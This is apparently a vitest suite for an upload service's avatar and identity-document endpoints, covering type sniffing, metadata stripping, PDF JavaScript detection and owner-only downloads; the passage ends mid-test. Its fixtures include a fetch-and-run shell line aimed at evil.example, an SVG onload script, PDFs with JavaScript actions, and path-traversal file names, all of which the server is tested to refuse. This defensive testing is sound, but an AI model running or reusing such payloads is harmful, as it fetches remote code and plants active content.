/**
 * Avatar and document uploads over real HTTP (multipart built with FormData and Blob): types
 * judged by content (an executable, an ELF binary, a shell script or text renamed .jpg is
 * refused), images re-encoded without their metadata (a PNG tEXt chunk, JPEG EXIF), PDFs kept
 * byte for byte once looked into (hand-built PDFs with /JavaScript, #-escaped names, an action
 * compressed in an object stream, encryption: refused), size and count limits (413 / 400), the safe headers files are served with,
 * owner-only downloads, deletion, and the operator's review through the CLI process (review,
 * approve, reject) with the socket push to the owner.
 */
import fs from 'node:fs';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { nextEvent } from '../support/server';
import { useTestServer } from '../support/server-fixture';
import { register, type Registered } from '../support/auth';
import { admin, userSocket } from './payments-support';
import { DOCUMENT_TYPES, ProfileText } from '../../contract/profile';
import { isCompletePdf, sniffType } from '../../server/domain/profile/file-sniff';
import { inspectPdf } from '../../server/domain/profile/pdf-inspect';
import { checkPdf } from '../../server/domain/profile/pdf-checker';
import { reviewDocument, sanitizeFileName } from '../../server/domain/profile/documents';

const server = useTestServer({ RATE_LIMIT: 'false' });

// ---- test files --------------------------------------------------------------------------------

const SECRET = 'GPS-51.5007N-0.1246W-secret';

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body));
  return Buffer.concat([len, body, crc]);
}

/** A real PNG carrying a tEXt metadata chunk right after IHDR. */
async function pngWithText(width = 40, height = 30): Promise<Buffer> {
  const png = await sharp({ create: { width, height, channels: 3, background: '#3366cc' } }).png().toBuffer();
  const text = pngChunk('tEXt', Buffer.from(`Comment\0${SECRET}`, 'latin1'));
  const out = Buffer.concat([png.subarray(0, 33), text, png.subarray(33)]);
  expect(out.includes(SECRET)).toBe(true);
  expect((await sharp(out).metadata()).format).toBe('png');
  return out;
}

async function jpegWithExif(width = 64, height = 48): Promise<Buffer> {
  const jpg = await sharp({ create: { width, height, channels: 3, background: '#cc6633' } })
    .jpeg()
    .withMetadata({ exif: { IFD0: { Copyright: SECRET } } })
    .toBuffer();
  expect(jpg.includes(SECRET)).toBe(true);
  return jpg;
}

const gif = () => sharp({ create: { width: 20, height: 20, channels: 3, background: '#00aa00' } }).gif().toBuffer();
const webp = () => sharp({ create: { width: 20, height: 20, channels: 3, background: '#aa0000' } }).webp().toBuffer();

function pdf(extraTail = ''): Buffer {
  return Buffer.from(
    `%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n${extraTail}`,
    'latin1',
  );
}

// Hand-built PDFs with a correct cross-reference table. An object is its text, or a stream:
// its dictionary entries (without /Length, added here) and its data.
type PdfObject = string | { dict: string; data: Buffer };

const objectBytes = (num: number, o: PdfObject) =>
  typeof o === 'string'
    ? Buffer.from(`${num} 0 obj\n${o}\nendobj\n`, 'latin1')
    : Buffer.concat([Buffer.from(`${num} 0 obj\n<< ${o.dict} /Length ${o.data.length} >>\nstream\n`, 'latin1'), o.data, Buffer.from('\nendstream\nendobj\n', 'latin1')]);
const PDF_HEAD = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1');

function buildPdf(objects: PdfObject[], trailer = ''): Buffer {
  const parts: Buffer[] = [PDF_HEAD];
  const offsets: number[] = [];
  let size = PDF_HEAD.length;
  objects.forEach((o, i) => {
    const chunk = objectBytes(i + 1, o);
    offsets.push(size);
    parts.push(chunk);
    size += chunk.length;
  });
  const xref = [`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`, ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer}>>\nstartxref\n${size}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

/**
 * A PDF 1.5 file whose catalog and further objects live compressed in an object stream, found
 * through a cross-reference stream (as Acrobat, Word and pdfTeX write them): `plain` are objects
 * 1..n in the file, the object stream is n+1 and holds `compressed` as n+2, n+3, ...; the catalog
 * is the first compressed one.
 */
function buildCompressedPdf(plain: PdfObject[], compressed: string[]): Buffer {
  const streamNum = plain.length + 1;
  const all: PdfObject[] = [...plain, objectStream(streamNum + 1, compressed)];
  const parts: Buffer[] = [PDF_HEAD];
  const rows: [number, number, number][] = [[0, 0, 0xffff]];
  let size = PDF_HEAD.length;
  all.forEach((o, i) => {
    const chunk = objectBytes(i + 1, o);
    rows.push([1, size, 0]);
    parts.push(chunk);
    size += chunk.length;
  });
  compressed.forEach((_, i) => rows.push([2, streamNum, i]));
  const xrefNum = all.length + compressed.length + 1;
  rows.push([1, size, 0]);
  const entries = Buffer.concat(
    rows.map(([type, field2, field3]) => {
      const row = Buffer.alloc(7);
      row.writeUInt8(type, 0);
      row.writeUInt32BE(field2, 1);
      row.writeUInt16BE(field3, 5);
      return row;
    }),
  );
  parts.push(objectBytes(xrefNum, { dict: `/Type /XRef /Size ${xrefNum + 1} /W [1 4 2] /Root ${streamNum + 1} 0 R`, data: entries }));
  parts.push(Buffer.from(`startxref\n${size}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

const PAGE_CONTENT = { dict: '/Filter /FlateDecode', data: zlib.deflateSync(Buffer.from('BT /F1 12 Tf 72 720 Td (Statement for /JS Smith) Tj ET', 'latin1')) };

/** Catalog, pages, one page with compressed content and a clickable link; `catalog` adds to the catalog. */
function cleanPdfObjects(catalog = ''): PdfObject[] {
  return [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] ${catalog}>>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [5 0 R] /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>',
    PAGE_CONTENT,
    // A link the reader clicks is fine, whatever its address spells.
    '<< /Type /Annot /Subtype /Link /Rect [72 700 200 712] /A << /S /URI /URI (https://bank.example/AA/JS?x=1) >> >>',
  ];
}

/** An object stream holding `bodies` as objects first, first+1, ...; compressed with Flate. */
function objectStream(first: number, bodies: string[]): { dict: string; data: Buffer } {
  let header = '';
  let body = '';
  bodies.forEach((b, i) => {
    header += `${first + i} ${body.length} `;
    body += `${b}\n`;
  });
  return { dict: `/Type /ObjStm /N ${bodies.length} /First ${header.length} /Filter /FlateDecode`, data: zlib.deflateSync(Buffer.from(header + body, 'latin1')) };
}

const PDFS = {
  clean: () => buildPdf(cleanPdfObjects()),
  javascript: () =>
    buildPdf([
      ...cleanPdfObjects('/Names << /JavaScript 6 0 R >> '),
      '<< /Names [(init) 7 0 R] >>',
      '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
    ]),
  escapedName: () => buildPdf([...cleanPdfObjects('/AcroForm 6 0 R '), '<< /Fields [] /J#61vaScr#69pt 7 0 R >>', '<< /Foo 1 >>']),
  inObjectStream: () => {
    // Object 1 is the document info; the catalog, with its open action, is compressed.
    const plain = cleanPdfObjects();
    plain[0] = '<< /Producer (Scanner 3000) >>';
    return buildCompressedPdf(plain, ['<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\("https://evil.example/"\\)) >> >>']);
  },
  encrypted: () =>
    buildPdf(
      [...cleanPdfObjects(), `<< /Filter /Standard /V 1 /R 2 /O <${'28bf4e5e'.repeat(8)}> /U <${'4e5e28bf'.repeat(8)}> /P -44 >>`],
      '/Encrypt 6 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>] ',
    ),
};

const EXE = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00', 'latin1'), Buffer.alloc(200, 0x41)]);
const ELF = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'), Buffer.alloc(200, 0)]);
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
const TEXT = Buffer.from('just some text pretending to be a picture');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>');

// ---- helpers -------------------------------------------------------------------------------------

type Part = [field: string, value: string | { data: Buffer; name: string; type?: string }];

function form(parts: Part[]): FormData {
  const fd = new FormData();
  for (const [field, value] of parts) {
    if (typeof value === 'string') fd.append(field, value);
    else fd.append(field, new Blob([new Uint8Array(value.data)], { type: value.type ?? 'application/octet-stream' }), value.name);
  }
  return fd;
}

async function post(url: string, body: FormData | string, token?: string, headers: Record<string, string> = {}) {
  const res = await server.raw('POST', url, { body, headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...headers } });
  const text = await res.text();
  let json: any;
  try {
    json = JSON.parse(text);
  } catch {
    json = { raw: text };
  }
  return { status: res.status, body: json };
}

const uploadAvatar = (u: Registered, parts: Part[]) => post('/api/v2/profile/avatar', form(parts), u.token);
const uploadDocs = (u: Registered, parts: Part[]) => post('/api/v2/documents/upload', form(parts), u.token);

const profileDeps = () => server.ctx.services.profile.deps;
const avatarDir = () => path.join(server.dataDir, 'uploads', 'avatars');
const userDocsDir = (u: Registered) => path.join(server.dataDir, 'uploads', 'documents', String(u.userId));
const listDir = (dir: string) => (fs.existsSync(dir) ? fs.readdirSync(dir).sort() : []);

async function avatarUrlOf(u: Registered): Promise<string | null> {
  const me = await server.api('GET', '/api/platform/auth/me', undefined, u.token);
  return me.body.data.front_settings.avatar_url;
}

async function documentRows(u: Registered) {
  const docs = await server.ctx.db.selectFrom('documents').selectAll().where('user_id', '=', u.userId).execute();
  const files = await server.ctx.db.selectFrom('document_files').selectAll().where('user_id', '=', u.userId).execute();
  return { docs, files };
}

// ---- avatar --------------------------------------------------------------------------------------

describe('POST /api/v2/profile/avatar', () => {
  it('re-encodes a PNG with a tEXt chunk to a WebP without it and serves it with safe headers', async () => {
    const u = await register(server);
    const r = await uploadAvatar(u, [['avatar', { data: await pngWithText(), name: 'me.png', type: 'image/png' }]]);
    expect(r.status, JSON.stringify(r.body)).toBe(200);
    expect(r.body).toMatchObject({ success: true, error: null });
    const url: string = r.body.data.avatar_url;
    expect(url).toMatch(/^\/uploads\/avatars\/[A-Za-z0-9_-]{32}\.webp$/);
    expect(await avatarUrlOf(u)).toBe(url);
    expect((await server.api('GET', '/api/v2/user/profile', undefined, u.token)).body.data.avatar_url).toBe(url);

    const stored = fs.readFileSync(path.join(avatarDir(), path.basename(url)));
    expect(stored.subarray(0, 4).toString('latin1')).toBe('RIFF');
    expect(stored.subarray(8, 12).toString('latin1')).toBe('WEBP');
    expect(stored.includes(SECRET)).toBe(false);

    const res = await server.raw('GET', url);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('image/webp');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('content-disposition')).toMatch(/^inline/);
    expect(res.headers.get('cache-control')).toContain('max-age=');
    expect(res.headers.get('content-security-policy')).toContain('sandbox');
    const served = Buffer.from(await res.arrayBuffer());
    expect(served.equals(stored)).toBe(true);
    const meta = await sharp(served).metadata();
    expect(meta).toMatchObject({ format: 'webp', width: 40, height: 30 });
    expect(meta.exif).toBeUndefined();
  });

  it('scales a big image to fit 512 x 512, strips JPEG EXIF, and deletes the previous avatar file', async () => {
    const u = await register(server);
    const first = await uploadAvatar(u, [['avatar', { data: await jpegWithExif(2000, 1000), name: 'big.jpg', type: 'image/jpeg' }]]);
    expect(first.status).toBe(200);
    const firstFile = path.join(avatarDir(), path.basename(first.body.data.avatar_url));
    const stored = fs.readFileSync(firstFile);
    expect(stored.includes(SECRET)).toBe(false);
    expect(await sharp(stored).metadata()).toMatchObject({ width: 512, height: 256, format: 'webp' });

    const second = await uploadAvatar(u, [['avatar', { data: await gif(), name: 'anim.gif', type: 'image/gif' }]]);
    expect(second.status).toBe(200);
    expect(second.body.data.avatar_url).not.toBe(first.body.data.avatar_url);
    expect(fs.existsSync(firstFile)).toBe(false);
    expect((await server.raw('GET', first.body.data.avatar_url)).status).toBe(404);
    expect((await server.raw('GET', second.body.data.avatar_url)).status).toBe(200);

    const third = await uploadAvatar(u, [['avatar', { data: await webp(), name: 'x.webp' }]]);
    expect(third.status).toBe(200);
  });

  const disguised: [string, Buffer][] = [
    ['a Windows executable (MZ)', EXE],
    ['an ELF binary', ELF],
    ['a shell script', SCRIPT],
    ['plain text', TEXT],
    ['an SVG with a script', SVG],
    ['a PDF', pdf()],
  ];
  for (const [what, data] of disguised) {
    it(`refuses ${what} renamed .jpg with 400 "Unsupported image type" and stores nothing`, async () => {
      const u = await register(server);
      const before = listDir(avatarDir());
      const r = await uploadAvatar(u, [['avatar', { data, name: 'holiday.jpg', type: 'image/jpeg' }]]);
      expect(r.status).toBe(400);
      expect(r.body).toMatchObject({ success: false, data: null, error: 'Unsupported image type', error_message: 'Unsupported image type' });
      expect(listDir(avatarDir())).toEqual(before);
      expect(await avatarUrlOf(u)).toBeNull();
    });
  }

  it('refuses a truncated image whose signature is right', async () => {
    const u = await register(server);
    const png = await pngWithText();
    const r = await uploadAvatar(u, [['avatar', { data: png.subarray(0, 60), name: 'cut.png', type: 'image/png' }]]);
    expect(r.status).toBe(400);
    expect(r.body.error).toBe(ProfileText.unreadableImage);
  });

  it('answers 413 for a file over 5 MB', async () => {
    const u = await register(server);
    const before = listDir(avatarDir());
    const big = Buffer.concat([await pngWithText(), Buffer.alloc(5 * 1024 * 1024)]);
    const r = await uploadAvatar(u, [['avatar', { data: big, name: 'big.png', type: 'image/png' }]]);
    expect(r.status).toBe(413);
    expect(r.body).toMatchObject({ success: false, data: null, error: ProfileText.avatarTooLarge, error_message: ProfileText.avatarTooLarge });
    expect(listDir(avatarDir())).toEqual(before);
  });

  it('answers 400 without a file, with a wrong field, with two files, or with a JSON body', async () => {
    const u = await register(server);
    const png = await pngWithText();
    const none = await uploadAvatar(u, [['note', 'hello']]);
    expect(none.status).toBe(400);
    expect((await uploadAvatar(u, [])).body.error).toBe(ProfileText.avatarRequired);
    const wrong = await uploadAvatar(u, [['photo', { data: png, name: 'a.png' }]]);
    expect(wrong.status).toBe(400);
    expect(wrong.body.error).toBe(`${ProfileText.unexpectedField}: photo`);
    const two = await uploadAvatar(u, [
      ['avatar', { data: png, name: 'a.png' }],
      ['avatar', { data: png, name: 'b.png' }],
    ]);
    expect(two.status).toBe(400);
    expect(two.body.error).toBe(ProfileText.oneImageOnly);
    const json = await server.api('POST', '/api/v2/profile/avatar', { avatar: 'x' }, u.token);
    expect(json.status).toBe(400);
    expect(json.body.error).toBe(ProfileText.notMultipart);
    expect(await avatarUrlOf(u)).toBeNull();
    // And without a token nothing is even read.
    expect((await post('/api/v2/profile/avatar', form([['avatar', { data: png, name: 'a.png' }]]))).status).toBe(401);
  });

  it('serves only well-formed avatar names', async () => {
    for (const bad of ['/uploads/avatars/..%2F..%2Fsecrets.json', '/uploads/avatars/nope.webp', '/uploads/avatars/' + 'a'.repeat(32) + '.png']) {
      const res = await server.raw('GET', bad);
      expect(res.status).toBe(404);
      expect(await res.json()).toMatchObject({ success: false });
    }
  });
});

// ---- documents -----------------------------------------------------------------------------------

describe('GET /api/v2/documents/types', () => {
  it('lists the 10 types with their limits and accepted types', async () => {
    const r = await server.api('GET', '/api/v2/documents/types');
    expect(r.status).toBe(200);
    expect(r.body.data.types.map((t: { type: string }) => t.type)).toEqual([...DOCUMENT_TYPES]);
    for (const t of r.body.data.types) {
      expect(t).toEqual({
        type: t.type,
        label_key: `profile.documents.types.${t.type}`,
        max_files: 5,
        max_size_mb: 10,
        accepted: ['image/jpeg', 'image/png', 'application/pdf', 'image/webp'],
      });
    }
  });
});

describe('POST /api/v2/documents/upload', () => {
  it('stores a document of PNG, JPEG and PDF files: images without metadata, the PDF as sent, status uploaded', async () => {
    const u = await register(server);
    const png = await pngWithText();
    const jpg = await jpegWithExif();
    const doc = pdf();
    const r = await uploadDocs(u, [
      ['type', 'passport'],
      ['files', { data: png, name: '../../etc/passport scan.png', type: 'image/png' }],
      ['files', { data: jpg, name: 'C:\\Users\\me\\<selfie>.jpeg', type: 'image/jpeg' }],
      ['files', { data: doc, name: 'statement.PDF', type: 'application/pdf' }],
    ]);
    expect(r.status, JSON.stringify(r.body)).toBe(201);
    const d = r.body.data.document;
    expect(d).toMatchObject({ type: 'passport', status: 'uploaded', rejection_reason: null });
    expect(d.files.map((f: { name: string; mime: string }) => [f.name, f.mime])).toEqual([
      ['passport scan.png', 'image/png'],
      ['selfie.jpg', 'image/jpeg'],
      ['statement.pdf', 'application/pdf'],
    ]);

    // On disk: random names under the user's folder, never the uploader's name.
    const stored = await documentRows(u);
    expect(stored.files).toHaveLength(3);
    expect(listDir(userDocsDir(u))).toEqual(stored.files.map((f) => f.storage_name).sort());
    for (const f of stored.files) expect(f.storage_name).toMatch(/^[A-Za-z0-9_-]{32}$/);
    const bytes = (name: string) => fs.readFileSync(path.join(userDocsDir(u), stored.files.find((f) => f.original_name === name)!.storage_name));
    expect(bytes('passport scan.png').includes(SECRET)).toBe(false);
    expect((await sharp(bytes('passport scan.png')).metadata()).format).toBe('png');
    expect(bytes('selfie.jpg').includes(SECRET)).toBe(false);
    expect(bytes('statement.pdf').equals(doc)).toBe(true);

    // The owner downloads each file with safe headers.
    for (const f of d.files) {
      const res = await server.raw('GET', `/api/v2/documents/${d.id}/files/${f.id}`, { headers: { authorization: `Bearer ${u.token}` } });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toBe(f.mime);
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('content-disposition')).toContain('attachment;');
      expect(res.headers.get('content-disposition')).toContain(`filename*=UTF-8''${encodeURIComponent(f.name)}`);
      expect(res.headers.get('cache-control')).toContain('no-store');
      expect(Buffer.from(await res.arrayBuffer()).length).toBe(f.size);
    }
    // Nobody else does.
    const other = await register(server);
    const res = await server.raw('GET', `/api/v2/documents/${d.id}/files/${d.files[0].id}`, { headers: { authorization: `Bearer ${other.token}` } });
    expect(res.status).toBe(404);
    expect((await server.raw('GET', `/api/v2/documents/${d.id}/files/${d.files[0].id}`)).status).toBe(401);

    // The list shows it as uploaded (no operator has taken it yet); a domain event announced it.
    const list = await server.api('GET', '/api/v2/user/documents', undefined, u.token);
    expect(list.body.data.documents).toEqual([d]);
    const events = await server.ctx.db.selectFrom('domain_events').selectAll().where('type', '=', 'document.status').where('user_id', '=', u.userId).execute();
    expect(events.map((e) => JSON.parse(e.payload))).toEqual([{ document_id: d.id, status: 'uploaded' }]);
  });

  it('accepts WebP and the files[] field name', async () => {
    const u = await register(server);
    const r = await uploadDocs(u, [
      ['type', 'selfie'],
      ['files[]', { data: await webp(), name: 'face.webp' }],
    ]);
    expect(r.status).toBe(201);
    expect(r.body.data.document.files[0]).toMatchObject({ name: 'face.webp', mime: 'image/webp' });
  });

  const refused: [string, () => Promise<Part[]>, number, string][] = [
    ['6 files', async () => [['type', 'other'], ...Array.from({ length: 6 }, (_, i): Part => ['files', { data: pdf(), name: `p${i}.pdf` }])], 400, ProfileText.tooManyFiles],
    ['no file', async () => [['type', 'other']], 400, ProfileText.filesRequired],
    ['no type', async () => [['files', { data: pdf(), name: 'a.pdf' }]], 400, ProfileText.documentTypeRequired],
    ['an unknown type', async () => [['type', 'visa'], ['files', { data: pdf(), name: 'a.pdf' }]], 400, ProfileText.unknownDocumentType],
    ['an executable renamed .pdf', async () => [['type', 'other'], ['files', { data: EXE, name: 'scan.pdf', type: 'application/pdf' }]], 400, 'Unsupported file type'],
    ['an ELF binary renamed .jpg', async () => [['type', 'other'], ['files', { data: ELF, name: 'scan.jpg', type: 'image/jpeg' }]], 400, 'Unsupported file type'],
    ['a shell script renamed .png', async () => [['type', 'other'], ['files', { data: SCRIPT, name: 'scan.png', type: 'image/png' }]], 400, 'Unsupported file type'],
    ['a GIF (not a document format)', async () => [['type', 'other'], ['files', { data: await gif(), name: 'a.gif' }]], 400, 'Unsupported file type'],
    ['a PDF without %%EOF at its end', async () => [['type', 'other'], ['files', { data: pdf('x'.repeat(2000)), name: 'a.pdf' }]], 400, 'Unsupported file type'],
    [
      'a good file next to a bad one',
      async () => [['type', 'other'], ['files', { data: pdf(), name: 'good.pdf' }], ['files', { data: SCRIPT, name: 'bad.pdf' }]],
      400,
      'Unsupported file type',
    ],
    ['an unexpected field', async () => [['type', 'other'], ['comment', 'hi'], ['files', { data: pdf(), name: 'a.pdf' }]], 400, `${ProfileText.unexpectedField}: comment`],
    [
      'a file over 10 MB',
      async () => [['type', 'other'], ['files', { data: Buffer.concat([pdf(), Buffer.alloc(10 * 1024 * 1024)]), name: 'huge.pdf' }]],
      413,
      ProfileText.fileTooLarge,
    ],
  ];
  for (const [what, parts, status, message] of refused) {
    it(`refuses ${what} (${status}) and stores nothing`, async () => {
      const u = await register(server);
      const r = await uploadDocs(u, await parts());
      expect(r.status, JSON.stringify(r.body)).toBe(status);
      expect(r.body).toMatchObject({ success: false, data: null, error: message, error_message: message });
      expect(await documentRows(u)).toEqual({ docs: [], files: [] });
      expect(listDir(userDocsDir(u))).toEqual([]);
    });
  }

  it('accepts a plain PDF (compressed page, a link, a destination to open at) and stores it byte for byte', async () => {
    const u = await register(server);
    const clean = PDFS.clean();
    expect(clean.includes('/URI (https://bank.example/AA/JS')).toBe(true);
    const r = await uploadDocs(u, [
      ['type', 'bank_statement'],
      ['files', { data: clean, name: 'statement.pdf', type: 'application/pdf' }],
    ]);
    expect(r.status, JSON.stringify(r.body)).toBe(201);
    const stored = await documentRows(u);
    expect(stored.files).toHaveLength(1);
    expect(fs.readFileSync(path.join(userDocsDir(u), stored.files[0].storage_name)).equals(clean)).toBe(true);
  });

  const activePdfs: [string, () => Buffer, string][] = [
    ['a PDF with /JavaScript in plain sight', PDFS.javascript, ProfileText.pdfActiveContent],
    ['a PDF whose name is #-escaped (/J#61vaScr#69pt)', PDFS.escapedName, ProfileText.pdfActiveContent],
    ['a PDF whose open action (/JavaScript) sits in a Flate-compressed object stream', PDFS.inObjectStream, ProfileText.pdfActiveContent],
    ['an encrypted PDF', PDFS.encrypted, ProfileText.pdfEncrypted],
  ];
  for (const [what, make, message] of activePdfs) {
    it(`refuses ${what} with 400 and stores nothing, not even the good file next to it`, async () => {
      const u = await register(server);
      const bad = make();
      // Each is a complete PDF by the old test (header and %%EOF) and sniffs as one.
      expect(isCompletePdf(bad)).toBe(true);
      expect(sniffType(bad)).toBe('application/pdf');
      const r = await uploadDocs(u, [
        ['type', 'other'],
        ['files', { data: PDFS.clean(), name: 'good.pdf' }],
        ['files', { data: bad, name: 'scan.pdf', type: 'application/pdf' }],
      ]);
      expect(r.status, JSON.stringify(r.body)).toBe(400);
      expect(r.body).toMatchObject({ success: false, data: null, error: message, error_message: message });
      expect(await documentRows(u)).toEqual({ docs: [], files: [] });
      expect(listDir(userDocsDir(u))).toEqual([]);
    });
  }

  it('needs a multipart body and a token', async () => {
    const u = await register(server);
    expect((await server.api('POST', '/api/v2/documents/upload', { type: 'passport' }, u.token)).body.error).toBe(ProfileText.notMultipart);
    expect((await post('/api/v2/documents/upload', form([['type', 'passport']]))).status).toBe(401);
  });
});

describe('deleting and reviewing documents', () => {
  async function uploadOne(u: Registered, type = 'utility_bill') {
    const r = await uploadDocs(u, [
      ['type', type],
      ['files', { data: pdf(), name: 'bill.pdf' }],
    ]);
    expect(r.status).toBe(201);
    return r.body.data.document as { id: number; files: { id: number }[] };
  }

  it('lets the owner delete an uploaded or a pending document: rows and files go', async () => {
    const u = await register(server);
    const underReview = await uploadOne(u);
    expect((await reviewDocument(profileDeps(), underReview.id, { status: 'pending' })).document.status).toBe('pending');
    expect((await server.api('DELETE', `/api/v2/documents/${underReview.id}`, undefined, u.token)).status).toBe(200);
    const d = await uploadOne(u);
    const other = await register(server);
    expect((await server.api('DELETE', `/api/v2/documents/${d.id}`, undefined, other.token)).status).toBe(404);
    const r = await server.api('DELETE', `/api/v2/documents/${d.id}`, undefined, u.token);
    expect(r.status).toBe(200);
    expect(await documentRows(u)).toEqual({ docs: [], files: [] });
    expect(listDir(userDocsDir(u))).toEqual([]);
    expect((await server.api('DELETE', `/api/v2/documents/${d.id}`, undefined, u.token)).status).toBe(404);
    expect((await server.api('DELETE', '/api/v2/documents/abc', undefined, u.token)).status).toBe(400);
  });

  // Each CLI call starts a process (seconds on a busy machine): generous timeouts.
  it('is reviewed through the CLI process: list, review (uploaded -> pending), approve, each pushed to the owner; approved stays', { timeout: 120_000 }, async () => {
    const u = await register(server);
    const d = await uploadOne(u, 'id_card');
    const socket = await userSocket(server, u.token);

    const list = await admin(server, 'documents', 'list', '--status', 'uploaded');
    expect(list.code, list.stderr).toBe(0);
    expect(list.stdout).toMatch(new RegExp(`^#${d.id}\\s+id_card\\s+uploaded\\s+user ${u.userId} \\(${u.username}\\)\\s+1 file`, 'm'));

    const show = await admin(server, 'documents', 'show', String(d.id));
    expect(show.code).toBe(0);
    expect(show.stdout).toContain(path.join(userDocsDir(u)));

    // The operator takes it under review: pending, pushed like a decision.
    const pending = nextEvent(socket, 'document_status_update', 30_000, (p: { document: { id: number; status: string } }) => p.document.id === d.id && p.document.status === 'pending');
    const review = await admin(server, 'documents', 'review', String(d.id));
    expect(review.code, review.stderr).toBe(0);
    expect(review.stdout).toMatch(new RegExp(`^Under review: #${d.id}\\s+id_card\\s+pending`, 'm'));
    expect(await pending).toEqual({ document: { id: d.id, status: 'pending', rejection_reason: null } });
    expect((await server.api('GET', '/api/v2/user/documents', undefined, u.token)).body.data.documents[0]).toMatchObject({ id: d.id, status: 'pending' });
    const underReview = await admin(server, 'documents', 'list', '--status', 'pending', '--user', String(u.userId));
    expect(underReview.stdout).toMatch(new RegExp(`^#${d.id}\\s+id_card\\s+pending`, 'm'));
    const reviewAgain = await admin(server, 'documents', 'review', String(d.id));
    expect(reviewAgain.code).toBe(0);
    expect(reviewAgain.stdout).toContain('Already done');

    const pushed = nextEvent(socket, 'document_status_update', 30_000, (p: { document: { id: number; status: string } }) => p.document.id === d.id && p.document.status === 'approved');
    const approve = await admin(server, 'documents', 'approve', String(d.id));
    expect(approve.code, approve.stderr).toBe(0);
    expect(approve.stdout).toMatch(new RegExp(`^Approved: #${d.id}`, 'm'));
    expect(await pushed).toEqual({ document: { id: d.id, status: 'approved', rejection_reason: null } });

    const listed = await server.api('GET', '/api/v2/user/documents', undefined, u.token);
    expect(listed.body.data.documents[0]).toMatchObject({ id: d.id, status: 'approved' });
    const del = await server.api('DELETE', `/api/v2/documents/${d.id}`, undefined, u.token);
    expect(del.status).toBe(400);
    expect(del.body.error).toBe(ProfileText.documentApproved);
    expect(listDir(userDocsDir(u))).toHaveLength(1);

    // Approving again changes nothing; reversing is refused.
    const again = await admin(server, 'documents', 'approve', String(d.id));
    expect(again.code).toBe(0);
    expect(again.stdout).toContain('Already done');
    const reverse = await admin(server, 'documents', 'reject', String(d.id), '--reason', 'changed my mind');
    expect(reverse.code).toBe(1);
    expect(reverse.stderr).toContain('already approved');
    const back = await admin(server, 'documents', 'review', String(d.id));
    expect(back.code).toBe(1);
    expect(back.stderr).toContain(`Document #${d.id} is already approved`);
    expect((await server.api('GET', '/api/v2/user/documents', undefined, u.token)).body.data.documents[0].status).toBe('approved');
    const events = await server.ctx.db.selectFrom('domain_events').select('payload').where('type', '=', 'document.status').where('user_id', '=', u.userId).orderBy('id').execute();
    expect(events.map((e) => JSON.parse(e.payload).status)).toEqual(['uploaded', 'pending', 'approved']);
  });

  it('may be approved straight from uploaded; a pending one may be rejected; review needs a known id and nothing else', { timeout: 90_000 }, async () => {
    const u = await register(server);
    const a = await uploadOne(u, 'selfie');
    expect(await reviewDocument(profileDeps(), a.id, { status: 'approved' })).toMatchObject({ changed: true, document: { status: 'approved' } });
    const b = await uploadOne(u, 'address_proof');
    expect((await reviewDocument(profileDeps(), b.id, { status: 'pending' })).changed).toBe(true);
    expect((await reviewDocument(profileDeps(), b.id, { status: 'pending' })).changed).toBe(false);
    expect((await reviewDocument(profileDeps(), b.id, { status: 'rejected', reason: 'Too old' })).document).toMatchObject({ status: 'rejected', rejection_reason: 'Too old' });
    await expect(reviewDocument(profileDeps(), b.id, { status: 'pending' })).rejects.toMatchObject({ name: 'Conflict', message: `Document #${b.id} is already rejected` });
    await expect(reviewDocument(profileDeps(), a.id, { status: 'rejected', reason: 'x' })).rejects.toMatchObject({ name: 'Conflict' });
    const docs = (await server.api('GET', '/api/v2/user/documents', undefined, u.token)).body.data.documents;
    expect(docs.map((d: { id: number; status: string; rejection_reason: string | null }) => [d.id, d.status, d.rejection_reason])).toEqual([
      [b.id, 'rejected', 'Too old'],
      [a.id, 'approved', null],
    ]);
    expect((await admin(server, 'documents', 'review')).code).toBe(2);
    expect((await admin(server, 'documents', 'review', String(b.id), '--reason', 'x')).code).toBe(2);
    const missing = await admin(server, 'documents', 'review', '999999');
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain(ProfileText.documentNotFound);
  });

  it('is rejected with a reason the user sees; the CLI refuses bad input', { timeout: 90_000 }, async () => {
    const u = await register(server);
    const d = await uploadOne(u, 'bank_statement');
    expect((await admin(server, 'documents', 'reject', String(d.id))).code).toBe(2);
    expect((await admin(server, 'documents', 'approve', 'x1')).code).toBe(2);
    expect((await admin(server, 'documents', 'list', '--status', 'lost')).code).toBe(2);
    const missing = await admin(server, 'documents', 'approve', '999999');
    expect(missing.code).toBe(1);
    expect(missing.stderr).toContain(ProfileText.documentNotFound);

